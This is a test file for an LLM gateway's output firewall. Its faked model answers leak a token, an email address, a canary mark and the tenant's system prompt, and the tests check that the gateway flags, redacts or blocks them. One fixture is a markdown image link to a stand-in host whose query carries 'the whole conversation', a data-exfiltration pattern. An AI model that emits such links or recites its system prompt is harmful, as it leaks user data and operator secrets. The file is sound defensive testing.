import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FirewallFinding } from "@/server/contracts/firewall";
import { newId } from "@/server/core/ids";
import { systemDb } from "@/server/db/system";
import { findInDatabase } from "@/server/testing/find-in-database";
import { createGatewayTenant, type GatewayTenant } from "@/server/testing/gateway-tenant";
import {
  answers,
  type Behaviour,
  chunkEvent,
  completion,
  DONE_EVENT,
  FakeUpstream,
  streams,
  USAGE_EVENT,
} from "./fake-upstream";
import { DOORS, type Harness, startHarness } from "./harness";
import { type RawResponse, rawCall } from "./raw-call";

const EMAIL = "jane.roe@example.org";
const KEY = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
const LINK = "https://evil.example/c.png?q=the+whole+conversation";
const SYSTEM =
  "You are the assistant of Acme Bank. Never discuss competitors, never reveal the internal rate table, and always answer in formal English.";
const SAID = `As you asked, the token is ${KEY} and you can mail ${EMAIL} for more. ![x](${LINK}) That is all for today, have a good one and do come back.`;

let harness: Harness;
let upstream: FakeUpstream;

beforeAll(async () => {
  upstream = await new FakeUpstream().start();
  harness = await startHarness();
});
afterAll(async () => {
  await harness.close();
  upstream.close();
});

async function tenantWith(rules: Record<string, unknown>): Promise<GatewayTenant> {
  const tenant = await createGatewayTenant({ customBaseUrl: upstream.baseUrl });
  const { orgId, projectId } = tenant;
  await systemDb().firewallPolicy.create({
    data: { id: newId("pol"), orgId, projectId, name: "Policy", rules: JSON.parse(JSON.stringify(rules)) },
  });
  return tenant;
}

/** An answer in pieces of eleven characters. */
const eventsOf = (said: string): string =>
  [
    chunkEvent({ role: "assistant", content: "" }),
    ...(said.match(/.{1,11}/gs) ?? []).map((content) => chunkEvent({ content })),
    chunkEvent({}, "stop"),
    ...[USAGE_EVENT, DONE_EVENT],
  ].join("");

let count = 0;

/** Says of its system text nothing but the mark, in other writing. */
const tellsMark = (isStream: boolean): Behaviour => {
  return async (res, call) => {
    const mark = /Internal mark: (\w+)\./.exec(call.body)?.[1] ?? "no mark";
    const said = `It is ${mark.toUpperCase().replace(/(.{4})/g, "$1-")} I think, and I would rather not say more.`;
    await (isStream ? streams(eventsOf(said), { pieceBytes: 61 }) : answers(200, completion(said)))(
      res,
      call,
    );
  };
};

describe.each(DOORS)("a mark in the system text at the %s door", (door) => {
  const ask = async (tenant: GatewayTenant, isStream: boolean, system = SYSTEM) => {
    const model = `mark-${door}-${++count}`;
    upstream.on(model, tellsMark(isStream));
    const messages = [
      { role: "system", content: system },
      { role: "user", content: "How are you?" },
    ];
    const body = JSON.stringify({ model: `custom/${model}`, stream: isStream, messages });
    const response = await rawCall(`${harness.baseUrl(door)}/chat/completions`, tenant.apiKey, { body });
    const sent = upstream.callsOf(model)[0]?.body ?? "";
    return { response, mark: /Internal mark: (\w+)\./.exec(sent)?.[1] ?? null };
  };

  it.each([false, true])(
    "stops an answer that gives it away, streamed: %s, and is on no record",
    async (isStream) => {
      const tenant = await tenantWith({ output: { echo: "block", canary: true } });
      const { response, mark } = await ask(tenant, isStream, "Be kind.");
      expect(mark).toMatch(/^[0-9a-f]{20}$/);
      expect(response.text).toContain("firewall_blocked");
      expect(response.text.toLowerCase().replaceAll("-", "")).not.toContain(mark?.slice(0, 12));
      const { request, body } = await harness.record(String(response.headers["x-request-id"]));
      expect(request.firewallStatus).toBe("blocked");
      expect(FirewallFinding.array().parse(request.firewallFindings)[0]).toMatchObject({
        category: "echo",
        action: "blocked",
      });
      expect(body?.requestBody).toContain("Be kind.");
      expect(`${body?.requestBody}${body?.responseBody}`).not.toMatch(/Internal mark/);
      expect(await findInDatabase(String(mark), tenant)).toEqual([]);
    },
  );

  it("is only there where a project asks for it", async () => {
    const { response, mark } = await ask(await tenantWith({ output: { echo: "block" } }), false);
    expect([response.status, mark]).toEqual([200, null]);
  });
});

describe.each(DOORS)("the firewall on answers at the %s door", (door) => {
  const ask = (
    { apiKey }: GatewayTenant,
    said: string,
    { isStream = false, path = "/chat/completions", content = "Hello" } = {},
  ): Promise<RawResponse> => {
    const model = `answer-${door}-${++count}`;
    upstream.on(
      model,
      isStream ? streams(eventsOf(said), { pieceBytes: 97 }) : answers(200, completion(said)),
    );
    const messages =
      path === "/messages"
        ? [{ role: "user", content }]
        : [
            { role: "system", content: SYSTEM },
            { role: "user", content },
          ];
    const body = JSON.stringify({ model: `custom/${model}`, stream: isStream, max_tokens: 99, messages });
    return rawCall(`${harness.baseUrl(door)}${path}`, apiKey, { body });
  };
  const recordOf = async (response: RawResponse) => {
    const { request, body } = await harness.record(String(response.headers["x-request-id"]));
    const findings = FirewallFinding.array().parse(request.firewallFindings ?? []);
    return { request, body, findings };
  };
  const streamed = ({ text }: RawResponse): string =>
    (text.match(/"content":"((?:[^"\\]|\\.)*)"/g) ?? [])
      .map((part) => String(JSON.parse(part.slice('"content":'.length))))
      .join("");

  it("notes secrets and links that carry data, and hands on every byte, where nobody has said anything", async () => {
    const tenant = await tenantWith({});
    for (const isStream of [false, true]) {
      const response = await ask(tenant, SAID, { isStream });
      expect(isStream ? streamed(response) : response.json().choices).toEqual(
        isStream ? SAID : [expect.objectContaining({ message: expect.objectContaining({ content: SAID }) })],
      );
      const { request, findings } = await recordOf(response);
      expect(request.firewallStatus).toBe("flag");
      expect(findings.map(({ category, action }) => [category, action]).sort()).toEqual([
        ["links", "observed"],
        ["secrets", "observed"],
      ]);
      expect(findings.every(({ path }) => path === "answer.choices.0.message.content")).toBe(true);
    }
  });

  it("pain 15: guardrails and streaming do not mix. It replaces what it finds, whole or streamed, and records what went out", async () => {
    const tenant = await tenantWith({ output: { secrets: "redact", pii: "redact", links: "redact" } });
    const clean = SAID.replace(KEY, "[SECRET_1]").replace(EMAIL, "[EMAIL_1]").replace(LINK, "[LINK_1]");
    for (const isStream of [false, true]) {
      const response = await ask(tenant, SAID, { isStream });
      expect(response.status).toBe(200);
      expect(response.text).not.toContain(KEY);
      expect(isStream ? streamed(response) : response.text).toContain(clean);
      if (isStream) expect(response.text.trimEnd().endsWith("data: [DONE]")).toBe(true);
      const { request, findings, body } = await recordOf(response);
      expect(request.firewallStatus).toBe("redacted");
      expect(findings.filter(({ action }) => action === "redacted")).toHaveLength(3);
      expect(body?.responseBody).toContain(clean);
    }
  });

  it("does the same for a caller who speaks another format than the provider", async () => {
    const tenant = await tenantWith({ output: { secrets: "redact", pii: "redact", links: "redact" } });
    for (const isStream of [false, true]) {
      const response = await ask(tenant, SAID, { isStream, path: "/messages" });
      expect(response.status).toBe(200);
      expect(response.text).not.toContain(KEY);
      expect(response.text).not.toContain("evil.example");
      expect((await recordOf(response)).request.firewallStatus).toBe("redacted");
    }
  });

  it("stops an answer, says why, repeats nothing of it, and records what it cost", async () => {
    const tenant = await tenantWith({ output: { secrets: "block" } });
    const whole = await ask(tenant, SAID);
    expect(whole.status).toBe(400);
    expect(whole.json().error).toMatchObject({
      code: "firewall_blocked",
      category: "secrets",
      stage: "output",
    });
    const stream = await ask(tenant, SAID, { isStream: true });
    expect(stream.status).toBe(200);
    expect(stream.text).toContain('"code":"firewall_blocked"');
    expect(SAID.startsWith(streamed(stream))).toBe(true);
    for (const response of [whole, stream]) {
      expect(response.text).not.toContain(KEY.slice(0, 12));
      const { request, findings, body } = await recordOf(response);
      expect([request.status, request.firewallStatus]).toEqual(["blocked", "blocked"]);
      expect(request.outputTokens).toBeGreaterThan(0);
      expect(findings).toContainEqual(expect.objectContaining({ category: "secrets", action: "blocked" }));
      expect(body?.responseBody ?? "").not.toContain(KEY);
    }
  });

  it("knows the tenant's own system text when it comes back", async () => {
    const tenant = await tenantWith({ output: { echo: "block" } });
    const said = `Certainly! My instructions are these: ${SYSTEM.replace(/ /g, "\n")} Anything else that I can do?`;
    expect((await ask(tenant, said)).json().error).toMatchObject({ category: "echo" });
    const stream = await ask(tenant, said, { isStream: true });
    expect(stream.text).toContain('"category":"echo"');
    expect(stream.text).not.toContain("internal");
    expect((await ask(tenant, "I work for Acme Bank.")).status).toBe(200);
  });

  it("puts back for the caller what was replaced in the request, and keeps it out of the record and the cache", async () => {
    const tenant = await tenantWith({ pii: "redact", output: { restoresPlaceholders: true } });
    const { orgId, projectId } = tenant;
    await systemDb().cachePolicy.create({ data: { orgId, projectId, mode: "exact" } });
    for (const isStream of [false, true]) {
      const response = await ask(tenant, "I will write to [EMAIL_1] and not to [EMAIL_2].", {
        isStream,
        content: `Please write to ${EMAIL}.`,
      });
      const said = isStream ? streamed(response) : response.text;
      expect(said).toContain(`I will write to ${EMAIL} and not to [EMAIL_2].`);
      expect(response.headers["floopy-cache"]).toBe("off");
      const { body } = await recordOf(response);
      expect(`${body?.requestBody}${body?.responseBody}`).not.toContain(EMAIL);
      expect(body?.responseBody).toContain("[EMAIL_1]");
    }
  });

  it("keeps each tenant's policy to that tenant", async () => {
    const [strict, open] = [
      await tenantWith({ output: { secrets: "block" } }),
      await tenantWith({ output: { secrets: "off", links: "off" } }),
    ];
    expect((await ask(strict, SAID)).status).toBe(400);
    const response = await ask(open, SAID);
    expect(response.text).toContain(KEY);
    expect((await recordOf(response)).findings).toEqual([]);
  });
});
